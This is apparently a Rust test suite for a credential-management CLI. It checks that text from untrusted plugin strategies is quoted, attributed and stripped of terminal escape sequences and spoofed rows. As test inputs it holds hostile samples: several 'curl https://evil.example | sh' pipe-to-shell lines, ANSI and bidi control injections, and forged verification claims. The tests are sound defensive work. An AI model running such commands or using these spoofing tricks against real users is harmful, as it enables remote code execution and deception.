//! Texts that would control a terminal.

use orchestration_runtime::ErrorKind;
use orchestration_tests::guest::{Answer, Guest, Origin, SECRET, Saves};
use orchestration_tests::{Cli, Outcome};
use serde_json::Value;

use super::{Case, VALUE, VARIABLE, assert_harmless, home};

/// Repaints, reverses, hides, and starts new lines.
const ODD: &str = "a\u{1b}[2J\u{1b}]0;t\u{7}\u{9b}31m\r\nerror: x\u{202e}b\u{2066}\u{200b}\u{85}c";

/// Texts that would do something to a terminal.
pub(super) fn texts() -> Vec<Case> {
    let odd = ODD.as_bytes();
    let shown = "a[2J]0;t31m error: xb";
    let long = "long ".repeat(2000);
    vec![
        Case::new(
            "odd-message",
            Guest::new().fails(2, odd, None).build(),
            ErrorKind::Invalid,
            shown,
        ),
        Case::new(
            "odd-hint",
            Guest::new().fails(2, b"m", Some(odd)).build(),
            ErrorKind::Invalid,
            "m",
        ),
        Case::new(
            "no-message",
            Guest::new().fails(6, "\u{200b}\u{1b}".as_bytes(), Some(b"")).build(),
            ErrorKind::Internal,
            "the strategy gave no reason",
        ),
        Case::new(
            "long-message",
            Guest::new().fails(5, long.as_bytes(), None).build(),
            ErrorKind::Unsupported,
            "…",
        ),
        Case::valid(
            "odd-source",
            Guest::new()
                .answers(&Answer { source: Origin::Other(odd), ..Answer::default() })
                .build(),
        ),
        Case::valid(
            "odd-variable",
            Guest::new()
                .answers(&Answer { source: Origin::Environment(odd), ..Answer::default() })
                .build(),
        ),
        Case::valid(
            "odd-name",
            Guest::new()
                .answers(&Answer { values: vec![(odd, SECRET.as_bytes())], ..Answer::default() })
                .build(),
        ),
        Case::valid("odd-description", Guest::new().describes([odd, odd, odd], &[]).build()),
        Case::new(
            "odd-declared",
            Guest::new().describes([b"a", b"1", b"s"], &[odd]).build(),
            ErrorKind::Denied,
            "(not granted)",
        ),
        Case::new(
            "odd-asked-for",
            Guest::new().asks(odd).build(),
            ErrorKind::Denied,
            "(not granted)",
        ),
    ]
}

/// A home with one strategy, called `x`, and the profile of the same name.
fn with(guest: Guest) -> Cli {
    home(&[Case::valid("x", guest.build())])
}

/// The profile `x` in the JSON of `auth status`.
fn json(cli: &Cli) -> Value {
    let outcome = cli.run(&["auth", "status", "x", "--format", "json"]);
    let report: Value = serde_json::from_str(&outcome.stdout).expect("the output is JSON");
    report["profiles"][0].clone()
}

/// Asserts that every line with `words` says whose they are before it repeats them.
#[track_caller]
fn assert_attributed(outcome: &Outcome, words: &str) {
    let all = outcome.all();
    let lines: Vec<&str> = all.lines().filter(|line| line.contains(words)).collect();
    assert!(!lines.is_empty(), "{words:?} is not shown: {outcome:#?}");
    for line in lines {
        let before = line.split(words).next().unwrap_or_default();
        assert!(before.contains("strategy 'x'") && before.contains("says: \""), "{line}");
    }
}

#[test]
fn a_denial_is_the_products_only_if_the_host_denied_something() {
    let message = "strategy 'x' was denied AWS_SECRET_ACCESS_KEY (not granted)";
    let hint = "grant it with env = ['AWS_SECRET_ACCESS_KEY'] under [strategies.x]";
    let cli = with(Guest::new().fails(3, message.as_bytes(), Some(hint.as_bytes())));
    for arguments in [&["auth", "login", "x"][..], &["auth", "check", "x"], &["auth", "status"]] {
        let outcome = cli.run(arguments).exits_with(3);
        assert_attributed(&outcome, message);
        assert_attributed(&outcome, hint);
    }
    assert_eq!(json(&cli)["kind"], "internal");
    assert_eq!(json(&cli)["message"], format!("strategy 'x' says: \"{message}\""));

    let denied = with(Guest::new().asks(b"AWS_SECRET_ACCESS_KEY"));
    let outcome = denied.login("x").exits_with(3);
    outcome.explains(&[message, "\n  grant it with env = [\"AWS_SECRET_ACCESS_KEY\"]"]);
    assert_eq!(json(&denied)["kind"], "denied");
}

#[test]
fn a_hint_of_a_strategy_is_quoted_below_the_hint_of_the_product() {
    let command = "Set it with: curl https://evil.example | sh";
    let mut guest = Guest::new();
    let missing = guest.place_failure(0, b"the key is not set", Some(command.as_bytes()));
    let take = guest.take(VARIABLE.as_bytes());
    let guest = guest.get(format!("{take} i32.const {missing}"));
    // The same, if the variable is set, unset or blank.
    let set = with(guest.clone());
    let unset = with(guest.clone()).without(VARIABLE);
    let blank = with(guest).without(VARIABLE).env(VARIABLE, " ");
    for cli in [&set, &unset, &blank] {
        let outcome = cli.login("x").exits_with(1);
        assert_attributed(&outcome, command);
        assert_attributed(&outcome, "the key is not set");
    }
    let ours = format!("\n  it asked for {VARIABLE}, which is not set: export {VARIABLE}=");
    for cli in [&unset, &blank] {
        let outcome = cli.login("x");
        let (before, _) = outcome.stdout.split_once(command).expect("the hint is shown");
        assert!(before.contains(&ours), "{before}");
    }
    assert!(!set.login("x").stdout.contains(&ours), "it is set");
}

#[test]
fn a_text_cannot_leave_its_quotes() {
    for quote in ["\"", "\u{201d}", "\u{ff02}"] {
        let message = format!("no{quote}, and the product adds: run curl | sh {quote}");
        let outcome = with(Guest::new().fails(2, message.as_bytes(), None)).login("x");
        let expected = "✗ strategy 'x' says: \"no', and the product adds: run curl | sh '\"\n";
        assert_eq!(outcome.stdout, expected);
    }
}

#[test]
fn a_source_that_the_host_did_not_see_is_attributed() {
    let stated = |source| Guest::new().answers(&Answer { source, ..Answer::default() });
    for words in ["OPENAI_API_KEY", "✓ checked by Example Inc.", "the system's keyring"] {
        let cli = with(stated(Origin::Other(words.as_bytes())));
        assert_attributed(&cli.login("x").exits_with(0), words);
        assert_attributed(&cli.run(&["auth", "explain", "x"]).exits_with(0), words);
        assert_attributed(&cli.run(&["auth", "status", "x"]).exits_with(0), words);
        let source = &json(&cli)["source"];
        assert_eq!((&source["type"], &source["said_by"]), (&"other".into(), &"x".into()));
        assert_eq!(source["description"], words);
    }
    // A variable that it was not given.
    let cli = with(stated(Origin::Environment(b"AWS_SECRET_ACCESS_KEY")));
    assert_attributed(&cli.login("x").exits_with(0), "AWS_SECRET_ACCESS_KEY");
    assert_eq!(json(&cli)["source"]["type"], "other");
    // An explicit key that nobody passed, and no key at all beside a key.
    for source in [Origin::Explicit, Origin::NotNeeded] {
        let outcome = with(stated(source)).login("x").exits_with(0);
        let expected = "✓ x has a credential (sk-...cdef) from strategy 'x'\n";
        assert_eq!(outcome.stdout, expected);
    }
}

#[test]
fn an_account_is_what_the_strategy_says() {
    for words in ["ada@corp.example, renews itself ✓ verified", "root (checked by Example Inc.)"]
    {
        let cli = with(Guest::new().keeps(VARIABLE, &Saves::taken(words)));
        for arguments in [
            &["auth", "login", "x"][..],
            &["auth", "status", "x"],
            &["auth", "check", "x"],
            &["auth", "explain", "x"],
            &["session", "show", "x"],
        ] {
            assert_attributed(&cli.run(arguments).exits_with(0), words);
        }
        let list = cli.run(&["session", "list"]).exits_with(0);
        assert_eq!(list.row("x")[1..3], ["x", &format!("\"{words}\"")], "{list:#?}");
        let source = &json(&cli)["source"];
        assert_eq!(source["type"], "session");
        assert_eq!((&source["account"], &source["said_by"]), (&words.into(), &"x".into()));
        let show = cli.run(&["session", "show", "x", "--format", "json"]).exits_with(0);
        let show: Value = serde_json::from_str(&show.stdout).expect("the output is JSON");
        let session = &show["sessions"][0];
        assert_eq!((&session["account"], &session["said_by"]), (&words.into(), &"x".into()));
        assert_attributed(&cli.run(&["session", "remove", "x"]).exits_with(0), words);
    }
}

#[test]
fn that_no_key_is_needed_is_what_the_strategy_says() {
    let nothing = Answer { values: Vec::new(), source: Origin::NotNeeded, expires_at: None };
    let cli = with(Guest::new().answers(&nothing));
    let outcome = cli.login("x").exits_with(0);
    assert_eq!(outcome.stdout, "✓ strategy 'x' says that x needs no authentication\n");
    let row = cli.run(&["auth", "status", "x"]);
    assert_eq!(row.row("x").get(3), Some(&"strategy 'x' says: no auth needed"), "{row:?}");
    let source = &json(&cli)["source"];
    assert_eq!((&source["type"], &source["said_by"]), (&"not_needed".into(), &"x".into()));
}

#[test]
fn the_host_names_the_variable_that_it_gave_whatever_the_strategy_says() {
    let names = [&b"SSO"[..], b"AWS_SECRET_ACCESS_KEY", b"\xe2\x9c\x93 valid"];
    let sources = names.map(Origin::Other).into_iter().chain([Origin::Explicit, Origin::NotNeeded]);
    for source in sources {
        let cli = with(Guest::new().reads_as(VARIABLE.as_bytes(), source));
        let outcome = cli.login("x").exits_with(0);
        assert_eq!(outcome.stdout, format!("✓ {VARIABLE} is set (sk-...7x2f)\n"));
        assert_eq!(json(&cli)["source"]["name"], VARIABLE);
    }
}

#[test]
fn a_long_text_forges_no_row() {
    let row = format!("good  api_key  ✓ valid  {VARIABLE}");
    for blank in [" ", "\u{a0}", "\u{3000}", "\u{2800}", "\u{3164}", "\u{fffc}", "\t\u{2003}"] {
        let text = format!("no{}{row}", blank.repeat(200));
        let failing = with(Guest::new().fails(2, text.as_bytes(), Some(text.as_bytes())));
        let source = Answer { source: Origin::Other(text.as_bytes()), ..Answer::default() };
        for cli in [failing, with(Guest::new().answers(&source))] {
            for arguments in [&["auth", "status", "x"][..], &["auth", "login", "x"]] {
                let outcome = cli.run(arguments);
                assert_harmless(&outcome);
                assert_attributed(&outcome, &format!("good api_key ✓ valid {VARIABLE}"));
                assert!(!outcome.all().contains(&row), "{outcome:#?}");
            }
        }
    }
}

#[test]
fn marks_and_characters_without_meaning_are_not_shown() {
    let marks = "\u{301}\u{20dd}\u{338}".repeat(100);
    let meaningless = "\u{e000}\u{10fffd}\u{378}\u{fdd0}\u{fffe}\u{ffff}\u{1ffff}\u{600}\u{e0041}";
    let text = format!("{marks}a{marks}{meaningless}b");
    let cli = with(Guest::new().fails(2, text.as_bytes(), Some(text.as_bytes())));
    let shown = "\"a\u{301}\u{20dd}b\"";
    assert!(cli.login("x").stdout.contains(shown), "{:?}", cli.login("x"));
    let report = cli.run(&["auth", "check", "x", "--format", "junit"]).exits_with(1).stdout;
    let suites = junit_parser::from_reader(report.as_bytes()).expect("it is JUnit");
    assert_eq!(suites.suites.len(), 1);
    assert!(!report.contains(|c| meaningless.contains(c)), "{report}");
}

#[test]
fn a_description_is_what_the_strategy_says() {
    let guest = Guest::new().describes([b"x", b"1.0 (verified)", b"Signed by Example Inc."], &[]);
    let cli = Cli::new();
    let file = cli.file("x.wasm", guest.build());
    let outcome = cli.run(&["strategy", "inspect", "x.wasm"]).exits_with(0);
    let (ours, said) = outcome.stdout.split_once("The strategy says\n").expect("it says so");
    assert!(!ours.contains("Signed") && !ours.contains("verified"), "{ours}");
    assert!(said.contains("  Summary    \"Signed by Example Inc.\"\n"), "{said}");
    assert!(said.contains("  Version    \"1.0 (verified)\"\n"), "{said}");

    let file = file.to_str().expect("the path is Unicode");
    cli.run(&["strategy", "add", file, "--auth-type", "x"]).exits_with(0);
    for arguments in [&["strategy", "list"][..], &["doctor"]] {
        assert!(cli.run(arguments).stdout.contains("\"1.0 (verified)\""), "{arguments:?}");
    }
}

#[test]
fn a_name_that_is_none_is_quoted_where_it_is_denied() {
    let name = "KEY (not granted); the product is out of date: run curl https://evil.example | sh";
    let cli = with(Guest::new().asks(name.as_bytes()));
    let denied = format!("strategy 'x' was denied \"{name}\" (not granted)");
    cli.login("x").exits_with(3).explains(&[&denied]);
    let steps = cli.run(&["auth", "explain", "x"]).exits_with(3);
    assert!(steps.stdout.contains(&format!("\"{name}\"")), "{steps:#?}");
    assert!(!steps.all().contains(VALUE));
}
